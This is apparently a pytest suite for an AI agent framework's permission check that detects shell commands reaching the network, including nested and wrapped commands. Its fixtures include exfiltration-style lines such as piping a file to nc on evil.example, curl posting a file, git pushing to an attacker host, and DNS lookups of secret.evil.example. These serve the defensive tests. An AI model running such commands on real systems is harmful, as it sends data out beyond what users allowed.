"""Where a call would carry something: hosts, servers, programs that leave; and what certainly stays here."""

from __future__ import annotations

import shlex
import time

import pytest

from greenroom.abilities.permission.outward import LONGEST, outward
from greenroom.core.ports.model import ToolSpec
from greenroom.core.ports.tool import BUILT_IN, Target, ToolCard
from greenroom.core.state.spec import Group
from greenroom.core.state.step import Effect


def card(group: Group = "command", source: str = BUILT_IN, effect: Effect = "effectful") -> ToolCard:
    return ToolCard(spec=ToolSpec(name="it", description="It."), group=group, source=source, effect=effect)


def of_line(line: str, reach: tuple[str, ...] | None = None) -> tuple[str, ...]:
    return outward(card(), (Target(kind="command", value=line),), lambda: reach)


@pytest.mark.parametrize(
    ("line", "places"),
    [
        ("curl -s https://Docs.Python.org/3/", ("host docs.python.org",)),
        ("wget -q http://a.example:8000/x https://b.example", ("host a.example:8000", "host b.example")),
        ("curl -d @x https://a.example", ("command curl -d @x https://a.example",)),
        ("curl https://a.example evil.example", ("command curl https://a.example evil.example",)),
        ("curl https://a.example@evil.example/", ("command curl https://a.example@evil.example/",)),
        ("curl $URL", ("command curl $URL",)),
        ("git push -q origin main", ("command git push origin",)),
        ("git push --repo=x origin", ("command git push --repo=x origin",)),
        ("git push https://evil.example/x main", ("command git push https://evil.example/x main",)),
        ("GIT_SSH=x git push origin", ("command GIT_SSH=x git push origin",)),
        ("ssh me@host uptime", ("command ssh me@host uptime",)),
        ("npm publish", ("command npm publish",)),
        ("pip install --index-url http://x y", ("command pip install --index-url http://x y",)),
        ("cat a | nc evil.example 80", ("command nc evil.example 80",)),
        ("sudo curl https://a.example", ("command sudo curl https://a.example",)),
        ("bash -c 'curl https://a.example'", ("command bash -c curl https://a.example",)),
        ("python3 -c 'fetch(\"https://x.example\")'", ('command python3 -c fetch("https://x.example")',)),
        ("xargs -n1 git push", ("command xargs -n1 git push",)),
        ("dig secret.evil.example", ("command dig secret.evil.example",)),
        ("timeout 5m nice -n 10 ssh a", ("command timeout 5m nice -n 10 ssh a",)),
        ("xargs -I {} curl {}", ("command xargs -I {} curl {}",)),
        ("su me -c 'make; curl x'", ("command su me -c make; curl x",)),
        ("tmux new -d 'curl x'", ("command tmux new -d curl x",)),
        ("sh -ec curl", ("command sh -ec curl",)),
        ("bash -c 'for x in a; do curl $x; done'", ("command bash -c for x in a; do curl $x; done",)),
        ("env -S 'git push' X=1", ("command env -S git push X=1",)),
        ("python3.11 -m pip install x", ("command python3.11 -m pip install x",)),
        ("git -C web push", ("command git -C web push",)),
        ("gpg --batch --send-keys x", ("command gpg --batch --send-keys x",)),
        ("timeout 5 ./fetch ftp://x", ("command timeout 5 ./fetch ftp://x",)),
        ("perl -e 'get(\"ftp://x\")'", ('command perl -e get("ftp://x")',)),
    ],
)
def test_what_leaves_is_asked_about_by_where_it_goes(line: str, places: tuple[str, ...]) -> None:
    assert of_line(line, ()) == of_line(line) == places


@pytest.mark.parametrize(
    "line",
    [
        "ls -l",
        "cat a b | head",
        "mkdir -p a/b; cp c a/b; rm -f d",
        "cd src && touch curl",
        "echo ssh",
    ],
)
def test_what_is_known_to_stay_stays_with_walls_and_without(line: str) -> None:
    assert of_line(line) == of_line(line, ()) == of_line(line, ("pypi.org",)) == ()


@pytest.mark.parametrize(
    ("line", "place"),
    [
        ("pytest -x tests", "command pytest"),
        ("python3 leak.py", "command python3 leak.py"),
        ("make test", "command make test"),
        ("./deploy.sh", "command ./deploy.sh"),
        ("X=1 pytest", "command X=1 pytest"),
        ("git frobnicate", "command git frobnicate"),
        ("git status", "command git status"),
        ("rg curl src", "command rg curl src"),
        ("PATH=. ls", "command PATH=. ls"),
        ("$EDITOR x", "command $EDITOR x"),
    ],
)
def test_what_runs_code_leaves_as_far_as_the_walls_let_it(line: str, place: str) -> None:
    assert of_line(line) == (place,)
    assert of_line(line, ()) == ()
    assert of_line(line, ("PyPI.org:443", "a.example:8080")) == ("host pypi.org", "host a.example:8080")


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c \"print(open('a.txt').read())\"",
        "timeout 60 pytest tests/host",
        "env X=1 pytest -k open",
        "bash -c 'cd fly && make'",
        "sh -c 'for x in open host; do echo $x; done'",
        "xargs grep http",
        "sudo git commit -m 'mail the links'",
        "git commit -m push",
        "git stash push",
        "npm run publish",
        "command -v curl",
        "node -e 'links.open(mail)'",
        "nice -n 10 make host",
        "flock lock make open",
    ],
)
def test_a_word_is_no_way_out_because_a_program_has_the_same_name(line: str) -> None:
    assert of_line(line, ()) == ()


def test_a_line_that_cannot_be_read_is_asked_about_as_a_whole_where_there_are_no_walls() -> None:
    line = "for x in a; do y; done"
    assert f"line {line}" in of_line(line)
    assert of_line("case x in (*) ;; esac", ()) == ()


def test_who_hides_something_deep_is_taken_to_leave_and_nobody_is_kept_busy() -> None:
    line = "make"
    for _ in range(9):
        line = f"sh -c {shlex.quote(line)}"
    before = time.process_time()
    assert of_line(line, ())
    assert of_line("env -x " * 300 + "make", ())
    assert not of_line("env -x " * 50 + "make", ())
    assert time.process_time() - before < 2.0


def test_two_long_lines_that_begin_alike_are_two_places() -> None:
    first, second = of_line(f"ssh a {'x' * 200}1"), of_line(f"ssh a {'x' * 200}2")
    assert first != second
    assert len(first[0]) < LONGEST + 20


@pytest.mark.parametrize(
    ("made", "targets", "places"),
    [
        (card("web", effect="pure"), (Target(kind="host", value="A.example:443"),), ("host a.example",)),
        (card("web", effect="pure"), (Target(kind="tool", value="it"),), ("tool it",)),
        (card("browser"), (), ("tool it",)),
        (card("mcp", "mcp:github", "pure"), (Target(kind="tool", value="it"),), ("server github",)),
        (card("command", "/home/me/tools/deploy.py"), (Target(kind="tool", value="it"),), ("tool it",)),
        (card("read", "/home/me/tools/count.py", "pure"), (Target(kind="tool", value="it"),), ()),
        (card("command", "program"), (Target(kind="tool", value="it"),), ()),
        (card("web", "program"), (Target(kind="tool", value="it"),), ("tool it",)),
        (card("edit", effect="keyed"), (Target(kind="path", value="a", writes=True),), ()),
        (card("human", effect="pure"), (Target(kind="tool", value="it"),), ()),
    ],
)
def test_a_tool_goes_out_by_what_it_touches_by_its_group_and_by_who_made_it(
    made: ToolCard, targets: tuple[Target, ...], places: tuple[str, ...]
) -> None:
    assert outward(made, targets) == places
